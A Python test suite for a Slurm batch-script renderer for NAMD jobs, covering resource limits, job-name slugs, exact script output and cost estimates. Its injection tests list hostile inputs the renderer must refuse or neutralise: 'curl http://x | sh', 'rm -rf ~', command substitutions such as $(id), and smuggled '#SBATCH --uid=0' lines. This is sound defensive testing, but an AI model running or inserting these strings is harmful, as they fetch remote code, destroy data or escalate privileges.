"""The batch script: resource checks, job names, exact script text, injection attempts, cost."""

from __future__ import annotations

import dataclasses
import re
import uuid
from decimal import Decimal

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from templates_app.batch_script import (
    BatchScriptError,
    ClusterSettings,
    CostEstimate,
    LaunchSpec,
    PartitionLimits,
    Resources,
    ScriptInputs,
    check_resources,
    estimate_cost,
    job_name,
    render_batch_script,
)

JOB_UUID = uuid.UUID("0123456789ab4def8123456789abcdef")
NORMAL = PartitionLimits(
    name="normal", max_walltime_s=172800, max_nodes=4, cores_per_node=32, memory_per_node_mb=128000, gpus_per_node=0
)
DEBUG = PartitionLimits(
    name="debug", max_walltime_s=3600, max_nodes=1, cores_per_node=8, memory_per_node_mb=None, gpus_per_node=0
)
GPU = PartitionLimits(
    name="gpu", max_walltime_s=86400, max_nodes=2, cores_per_node=16, memory_per_node_mb=64000, gpus_per_node=4
)
SETTINGS = ClusterSettings(
    profile_module_lines=("module load gcc/12", "module load openmpi/4.1"),
    allowed_accounts=("chem",),
    allowed_qos=("normal-qos", "high"),
    su_per_core_hour=Decimal("1.0000"),
    su_per_gpu_hour=Decimal("10.0000"),
    partitions=(NORMAL, DEBUG, GPU),
)
CPU_LAUNCH = LaunchSpec(
    kind="cpu", command="srun namd2 +p{cores} {config}", module_lines=("module load namd/2.14",), container_image=""
)
GPU_LAUNCH = LaunchSpec(
    kind="gpu",
    command="namd3 +p{cores} +devices {devices} {config}",
    module_lines=("module load namd/3.0-cuda cuda/12.2",),
    container_image="",
)
CONTAINER_LAUNCH = LaunchSpec(
    kind="container",
    command="apptainer exec --nv {image} namd3 +p{cores} +devices {devices} {config}",
    module_lines=("module load apptainer",),
    container_image="/opt/images/namd_3.0.sif",
)
CPU_RESOURCES = Resources(
    partition="normal",
    nodes=2,
    ntasks=4,
    cpus_per_task=8,
    memory_mb=64000,
    walltime_s=93784,  # 1 day, 2 h, 3 min, 4 s
    gpus=0,
    account="chem",
    qos="high",
)
GPU_RESOURCES = Resources(
    partition="gpu",
    nodes=1,
    ntasks=1,
    cpus_per_task=8,
    memory_mb=None,
    walltime_s=7200,
    gpus=2,
    account=None,
    qos=None,
)
INPUTS = ScriptInputs(
    job_uuid=JOB_UUID, job_title="Water box", scratch_dir="/scratch/alice/np-0123", config_filename="job.namd"
)
BASE_SBATCH_LINE_COUNT = 11  # job-name comment partition nodes ntasks ntasks-per-node cpus time chdir output error


def codes(resources: Resources, settings: ClusterSettings = SETTINGS) -> list[str]:
    return [problem.code for problem in check_resources(settings, resources)]


def render(
    *,
    settings: ClusterSettings = SETTINGS,
    launch: LaunchSpec = CPU_LAUNCH,
    resources: Resources = CPU_RESOURCES,
    inputs: ScriptInputs = INPUTS,
) -> str:
    return render_batch_script(settings, launch, resources, inputs)


def sbatch_lines(script: str) -> list[str]:
    return [line for line in script.splitlines() if line.startswith("#SBATCH")]


# --- check_resources -------------------------------------------------------------------------------


def test_good_requests_have_no_problems() -> None:
    assert check_resources(SETTINGS, CPU_RESOURCES) == []
    assert check_resources(SETTINGS, GPU_RESOURCES) == []


@pytest.mark.parametrize(
    ("changes", "code"),
    [
        ({"partition": "nope"}, "PARTITION_UNKNOWN"),
        ({"walltime_s": 172801}, "TIME_OVER_LIMIT"),
        ({"memory_mb": 128001}, "MEMORY_OVER_LIMIT"),
        ({"ntasks": 5}, "CORES_OVER_LIMIT"),
        ({"nodes": 5}, "NODES_OVER_LIMIT"),
        ({"gpus": 1}, "GPUS_UNAVAILABLE"),
        ({"account": "physics"}, "ACCOUNT_NOT_ALLOWED"),
        ({"qos": "urgent"}, "QOS_NOT_ALLOWED"),
        ({"nodes": 0}, "RESOURCE_INVALID"),
        ({"ntasks": -1}, "RESOURCE_INVALID"),
        ({"cpus_per_task": 0}, "RESOURCE_INVALID"),
        ({"gpus": -1}, "RESOURCE_INVALID"),
        ({"memory_mb": 0}, "RESOURCE_INVALID"),
        ({"walltime_s": 59}, "RESOURCE_INVALID"),
    ],
)
def test_each_broken_limit_has_its_code(changes: dict[str, object], code: str) -> None:
    assert codes(dataclasses.replace(CPU_RESOURCES, **changes)) == [code]


def test_messages_say_the_limit_and_the_request() -> None:
    resources = dataclasses.replace(CPU_RESOURCES, partition="debug", nodes=1, ntasks=1, walltime_s=7200)
    [problem] = check_resources(SETTINGS, resources)
    assert problem.code == "TIME_OVER_LIMIT"
    assert problem.message == "debug allows at most 1 h; you asked for 2 h."


def test_gpu_message_names_the_partitions_gpus() -> None:
    [problem] = check_resources(SETTINGS, dataclasses.replace(GPU_RESOURCES, gpus=8))
    assert problem.message == "gpu has 4 GPUs per node; you asked for 8."


def test_cores_are_counted_per_node_as_tasks_times_cpus() -> None:
    assert codes(dataclasses.replace(CPU_RESOURCES, ntasks=4, cpus_per_task=8)) == []
    assert codes(dataclasses.replace(CPU_RESOURCES, ntasks=4, cpus_per_task=9)) == ["CORES_OVER_LIMIT"]


def test_no_limit_partitions_accept_anything_positive() -> None:
    unlimited = PartitionLimits(
        name="long", max_walltime_s=None, max_nodes=None, cores_per_node=4, memory_per_node_mb=None, gpus_per_node=0
    )
    settings = dataclasses.replace(SETTINGS, partitions=(unlimited,))
    resources = dataclasses.replace(CPU_RESOURCES, partition="long", nodes=500, ntasks=1, cpus_per_task=4)
    assert codes(dataclasses.replace(resources, walltime_s=10**7, memory_mb=10**6), settings) == []


def test_empty_allow_lists_allow_only_the_default() -> None:
    settings = dataclasses.replace(SETTINGS, allowed_accounts=(), allowed_qos=())
    assert codes(dataclasses.replace(CPU_RESOURCES, account=None, qos=None), settings) == []
    assert codes(CPU_RESOURCES, settings) == ["ACCOUNT_NOT_ALLOWED", "QOS_NOT_ALLOWED"]


def test_unknown_partition_skips_its_limits() -> None:
    assert codes(dataclasses.replace(CPU_RESOURCES, partition="nope", nodes=99)) == ["PARTITION_UNKNOWN"]


# --- job_name ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("Water box", "np-0123456789ab-water-box"),
        ("My run; rm -rf ~ $(id)", "np-0123456789ab-my-run-rm-rf-id"),
        ("", "np-0123456789ab"),
        ("!!!", "np-0123456789ab"),
        ("--a--b--", "np-0123456789ab-a-b"),
        ("Ünïcode ≠ ascii", "np-0123456789ab-n-code-ascii"),
        ("x" * 30, "np-0123456789ab-" + "x" * 24),
        ("a" * 23 + " b", "np-0123456789ab-" + "a" * 23),
        ("line\n#SBATCH --uid=0", "np-0123456789ab-line-sbatch-uid-0"),
    ],
)
def test_job_name_is_the_uuid_tag_and_a_safe_slug(title: str, expected: str) -> None:
    assert job_name(JOB_UUID, title) == expected


@given(st.text())
def test_job_name_is_always_slurm_safe(title: str) -> None:
    name = job_name(JOB_UUID, title)
    assert re.fullmatch(r"np-0123456789ab(-[a-z0-9]+(-[a-z0-9]+)*)?", name) is not None
    assert len(name) <= len("np-0123456789ab-") + 24


# --- render_batch_script: exact scripts --------------------------------------------------------------


def test_cpu_script_exact_lines() -> None:
    assert render().splitlines() == [
        "#!/bin/bash",
        "#SBATCH --job-name=np-0123456789ab-water-box",
        "#SBATCH --comment=np:01234567-89ab-4def-8123-456789abcdef",
        "#SBATCH --partition=normal",
        "#SBATCH --account=chem",
        "#SBATCH --qos=high",
        "#SBATCH --nodes=2",
        "#SBATCH --ntasks=8",
        "#SBATCH --ntasks-per-node=4",
        "#SBATCH --cpus-per-task=8",
        "#SBATCH --mem=64000M",
        "#SBATCH --time=1-02:03:04",
        "#SBATCH --chdir=/scratch/alice/np-0123",
        "#SBATCH --output=/scratch/alice/np-0123/slurm-%j.out",
        "#SBATCH --error=/scratch/alice/np-0123/slurm-%j.err",
        "set -euo pipefail",
        "module load gcc/12",
        "module load openmpi/4.1",
        "module load namd/2.14",
        "cd -- /scratch/alice/np-0123",
        "srun namd2 +p64 job.namd",
    ]


def test_gpu_script_exact_lines() -> None:
    assert render(launch=GPU_LAUNCH, resources=GPU_RESOURCES).splitlines() == [
        "#!/bin/bash",
        "#SBATCH --job-name=np-0123456789ab-water-box",
        "#SBATCH --comment=np:01234567-89ab-4def-8123-456789abcdef",
        "#SBATCH --partition=gpu",
        "#SBATCH --nodes=1",
        "#SBATCH --ntasks=1",
        "#SBATCH --ntasks-per-node=1",
        "#SBATCH --cpus-per-task=8",
        "#SBATCH --gres=gpu:2",
        "#SBATCH --time=0-02:00:00",
        "#SBATCH --chdir=/scratch/alice/np-0123",
        "#SBATCH --output=/scratch/alice/np-0123/slurm-%j.out",
        "#SBATCH --error=/scratch/alice/np-0123/slurm-%j.err",
        "set -euo pipefail",
        "module load gcc/12",
        "module load openmpi/4.1",
        "module load namd/3.0-cuda cuda/12.2",
        "cd -- /scratch/alice/np-0123",
        "namd3 +p8 +devices 0,1 job.namd",
    ]


def test_container_script_exact_lines() -> None:
    resources = dataclasses.replace(GPU_RESOURCES, gpus=4, account="chem", qos="normal-qos", memory_mb=32000)
    inputs = dataclasses.replace(INPUTS, job_title="", scratch_dir="/scratch/alice/run1/")
    assert render(launch=CONTAINER_LAUNCH, resources=resources, inputs=inputs).splitlines() == [
        "#!/bin/bash",
        "#SBATCH --job-name=np-0123456789ab",
        "#SBATCH --comment=np:01234567-89ab-4def-8123-456789abcdef",
        "#SBATCH --partition=gpu",
        "#SBATCH --account=chem",
        "#SBATCH --qos=normal-qos",
        "#SBATCH --nodes=1",
        "#SBATCH --ntasks=1",
        "#SBATCH --ntasks-per-node=1",
        "#SBATCH --cpus-per-task=8",
        "#SBATCH --mem=32000M",
        "#SBATCH --gres=gpu:4",
        "#SBATCH --time=0-02:00:00",
        "#SBATCH --chdir=/scratch/alice/run1",
        "#SBATCH --output=/scratch/alice/run1/slurm-%j.out",
        "#SBATCH --error=/scratch/alice/run1/slurm-%j.err",
        "set -euo pipefail",
        "module load gcc/12",
        "module load openmpi/4.1",
        "module load apptainer",
        "cd -- /scratch/alice/run1",
        "apptainer exec --nv /opt/images/namd_3.0.sif namd3 +p8 +devices 0,1,2,3 job.namd",
    ]


def test_the_script_ends_with_the_launch_command_so_its_exit_code_is_namds() -> None:
    script = render()
    assert script.endswith("\nsrun namd2 +p64 job.namd\n")
    assert "set -euo pipefail\n" in script


def test_blank_module_lines_are_skipped() -> None:
    settings = dataclasses.replace(SETTINGS, profile_module_lines=("", "  ", "module load namd/2.14  "))
    launch = dataclasses.replace(CPU_LAUNCH, module_lines=())
    lines = render(settings=settings, launch=launch).splitlines()
    assert lines[lines.index("set -euo pipefail") + 1 :] == [
        "module load namd/2.14",
        "cd -- /scratch/alice/np-0123",
        "srun namd2 +p64 job.namd",
    ]


# --- render_batch_script: refusals -------------------------------------------------------------------


def test_resource_problems_refuse_the_script_with_every_problem() -> None:
    resources = dataclasses.replace(CPU_RESOURCES, nodes=9, qos="urgent")
    with pytest.raises(BatchScriptError) as caught:
        render(resources=resources)
    assert caught.value.code == "NODES_OVER_LIMIT"
    assert [problem.code for problem in caught.value.problems] == ["NODES_OVER_LIMIT", "QOS_NOT_ALLOWED"]


@pytest.mark.parametrize(
    "line",
    [
        "module load namd; rm -rf ~",
        "module load $(id)",
        "module load namd\nrm -rf ~",
        "module avail",
        "module load",
        "curl http://x | sh",
        "module load `id`",
    ],
)
def test_module_lines_outside_the_allow_list_are_refused(line: str) -> None:
    for settings, launch in [
        (dataclasses.replace(SETTINGS, profile_module_lines=(line,)), CPU_LAUNCH),
        (SETTINGS, dataclasses.replace(CPU_LAUNCH, module_lines=(line,))),
    ]:
        with pytest.raises(BatchScriptError) as caught:
            render(settings=settings, launch=launch)
        assert caught.value.code == "MODULE_LINE_INVALID"


@pytest.mark.parametrize(
    "command",
    [
        "srun namd2 +p{cores} {config}; rm -rf ~",
        "srun namd2 +p{cores} {config} && id",
        "srun namd2 +p{cores} {config} & id",
        "srun namd2 +p{cores} {config} | tee log",
        "srun namd2 +p`nproc` {config}",
        "srun namd2 +p$(nproc) {config}",
        "srun namd2 +p{cores} {config} > log",
        "srun namd2 +p{cores} < {config}",
        "srun namd2 +p{cores} {config}\nid",
        "srun namd2 +p{cores} {user} {config}",
        "srun namd2 +p{cores} {config} {}",
        "srun namd2 +p{cores}",
    ],
)
def test_launch_commands_with_shell_syntax_or_unknown_placeholders_are_refused(command: str) -> None:
    with pytest.raises(BatchScriptError) as caught:
        render(launch=dataclasses.replace(CPU_LAUNCH, command=command))
    assert caught.value.code == "LAUNCH_COMMAND_INVALID"


def test_a_gpu_recipe_needs_a_gpu() -> None:
    with pytest.raises(BatchScriptError) as caught:
        render(launch=GPU_LAUNCH, resources=dataclasses.replace(GPU_RESOURCES, gpus=0))
    assert caught.value.code == "LAUNCH_COMMAND_INVALID"


def test_an_unknown_recipe_kind_is_refused() -> None:
    with pytest.raises(BatchScriptError) as caught:
        render(launch=dataclasses.replace(CPU_LAUNCH, kind="shell"))  # type: ignore[arg-type]
    assert caught.value.code == "LAUNCH_COMMAND_INVALID"


@pytest.mark.parametrize(
    "image", ["", "images/namd.sif", "/opt/namd.img", "/opt/$(id).sif", "/opt/a b.sif", "/opt/x.sif\nid"]
)
def test_container_images_outside_the_allow_list_are_refused(image: str) -> None:
    with pytest.raises(BatchScriptError) as caught:
        render(
            launch=dataclasses.replace(CONTAINER_LAUNCH, container_image=image),
            resources=GPU_RESOURCES,
        )
    assert caught.value.code == "CONTAINER_IMAGE_INVALID"


# --- injection through every string field ------------------------------------------------------------


def test_a_title_cannot_add_sbatch_lines() -> None:
    inputs = dataclasses.replace(INPUTS, job_title="x\n#SBATCH --uid=0\n$(reboot)")
    script = render(inputs=inputs)
    assert len(sbatch_lines(script)) == len(sbatch_lines(render()))
    assert "--uid" not in script
    assert "reboot)" not in script
    assert "#SBATCH --job-name=np-0123456789ab-x-sbatch-uid-0-reboot" in script.splitlines()


@pytest.mark.parametrize("partition", ["normal\n#SBATCH --x", "normal --uid=0", "nor mal", "$(id)"])
def test_a_partition_outside_the_profile_is_unknown(partition: str) -> None:
    with pytest.raises(BatchScriptError) as caught:
        render(resources=dataclasses.replace(CPU_RESOURCES, partition=partition))
    assert caught.value.code == "PARTITION_UNKNOWN"


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("partition", "normal\n#SBATCH --x"),
        ("account", "chem --uid=0"),
        ("account", "chem\n#SBATCH --uid=0"),
        ("qos", "high qos"),
        ("qos", "x" * 65),
    ],
)
def test_a_bad_name_the_profile_itself_lists_never_reaches_sbatch(field: str, value: str) -> None:
    partitions = (dataclasses.replace(NORMAL, name=value),) if field == "partition" else SETTINGS.partitions
    settings = dataclasses.replace(
        SETTINGS,
        partitions=partitions,
        allowed_accounts=(*SETTINGS.allowed_accounts, value),
        allowed_qos=(*SETTINGS.allowed_qos, value),
    )
    resources = dataclasses.replace(CPU_RESOURCES, **{field: value})
    assert codes(resources, settings) == []
    with pytest.raises(BatchScriptError) as caught:
        render(settings=settings, resources=resources)
    assert caught.value.code == "SBATCH_VALUE_INVALID"


@pytest.mark.parametrize("account", ["chem lab", " chem", "chem\n#SBATCH --x"])
def test_an_account_with_spaces_is_not_allowed(account: str) -> None:
    with pytest.raises(BatchScriptError) as caught:
        render(resources=dataclasses.replace(CPU_RESOURCES, account=account))
    assert caught.value.code == "ACCOUNT_NOT_ALLOWED"


@pytest.mark.parametrize(
    "scratch_dir",
    [
        "/scratch/$USER/run",
        "/scratch/alice/$(id)",
        "scratch/alice",
        "/scratch/alice/../bob",
        "/scratch/alice run",
        "/scratch/alice\n#SBATCH --x",
        "/scratch/a%j",
        "/",
        "",
    ],
)
def test_a_scratch_dir_outside_the_allow_list_is_a_value_error(scratch_dir: str) -> None:
    with pytest.raises(ValueError, match="scratch directory"):
        render(inputs=dataclasses.replace(INPUTS, scratch_dir=scratch_dir))


@pytest.mark.parametrize(
    "config_filename", ["job.namd; id", "-job.namd", "../job.namd", "a/b/job.namd", "/job.namd", "a\nb", ""]
)
def test_a_config_filename_outside_the_allow_list_is_a_value_error(config_filename: str) -> None:
    with pytest.raises(ValueError, match="config file name"):
        render(inputs=dataclasses.replace(INPUTS, config_filename=config_filename))


# --- properties --------------------------------------------------------------------------------------

BASELINE = render(inputs=dataclasses.replace(INPUTS, job_title=""))
BASELINE_ALPHABET = set(BASELINE) | set("abcdefghijklmnopqrstuvwxyz0123456789-")
JOB_NAME_LINE_RE = re.compile(r"#SBATCH --job-name=np-0123456789ab(-[a-z0-9]+(-[a-z0-9]+)*)?")


@given(st.text())
def test_a_title_only_ever_changes_the_job_name_line(title: str) -> None:
    lines = render(inputs=dataclasses.replace(INPUTS, job_title=title)).splitlines()
    assert len(sbatch_lines("\n".join(lines))) == BASE_SBATCH_LINE_COUNT + 3  # + account, qos, mem
    assert JOB_NAME_LINE_RE.fullmatch(lines[1]) is not None
    assert lines[:1] + lines[2:] == BASELINE.splitlines()[:1] + BASELINE.splitlines()[2:]


@given(st.text(min_size=1))
def test_a_raw_title_appears_in_no_line_unless_it_is_slug_safe(title: str) -> None:
    # Sound only for titles with a character the script could never hold: the rest of it is fixed text.
    assume(not set(title) <= BASELINE_ALPHABET)
    script = render(inputs=dataclasses.replace(INPUTS, job_title=title))
    assert all(title not in line for line in script.splitlines())


@given(st.from_regex(r"[a-z0-9]{1,24}", fullmatch=True))
def test_a_slug_safe_title_appears_as_is(title: str) -> None:
    script = render(inputs=dataclasses.replace(INPUTS, job_title=title))
    assert f"#SBATCH --job-name=np-0123456789ab-{title}" in script.splitlines()


@given(
    st.integers(min_value=1, max_value=4),
    st.integers(min_value=1, max_value=4),
    st.integers(min_value=0, max_value=4),
    st.none() | st.integers(min_value=1, max_value=64000),
    st.booleans(),
)
def test_sbatch_line_count_follows_the_optional_fields(
    nodes: int, ntasks: int, gpus: int, memory_mb: int | None, has_account: bool
) -> None:
    resources = dataclasses.replace(
        GPU_RESOURCES,
        nodes=min(nodes, 2),
        ntasks=ntasks,
        cpus_per_task=2,
        gpus=gpus,
        memory_mb=memory_mb,
        account="chem" if has_account else None,
    )
    launch = dataclasses.replace(CPU_LAUNCH, command="srun namd2 +p{cores} {config}")
    expected = BASE_SBATCH_LINE_COUNT + (memory_mb is not None) + (gpus > 0) + has_account
    assert len(sbatch_lines(render(launch=launch, resources=resources))) == expected


# --- estimate_cost -----------------------------------------------------------------------------------


def test_cost_of_a_cpu_job() -> None:
    resources = dataclasses.replace(CPU_RESOURCES, walltime_s=5400)  # 2 nodes x 4 tasks x 8 CPUs = 64 cores, 1.5 h
    assert estimate_cost(SETTINGS, resources) == CostEstimate(
        core_hours=Decimal("96.0000"), gpu_hours=Decimal("0.0000"), service_units=Decimal("96.0000")
    )


def test_cost_of_a_gpu_job_adds_gpu_hours() -> None:
    # 1 node x 8 cores, 2 GPUs, 2 h: 16 core-hours x 1 + 4 GPU-hours x 10.
    assert estimate_cost(SETTINGS, GPU_RESOURCES) == CostEstimate(
        core_hours=Decimal("16.0000"), gpu_hours=Decimal("4.0000"), service_units=Decimal("56.0000")
    )


def test_cost_rounds_up_never_down() -> None:
    resources = dataclasses.replace(CPU_RESOURCES, nodes=1, ntasks=1, cpus_per_task=1, walltime_s=61)
    settings = dataclasses.replace(SETTINGS, su_per_core_hour=Decimal("0.25"))
    estimate = estimate_cost(settings, resources)
    assert estimate.core_hours == Decimal("0.0170")  # 61/3600 h = 0.016944...
    assert estimate.service_units == Decimal("0.0043")  # 0.004236...
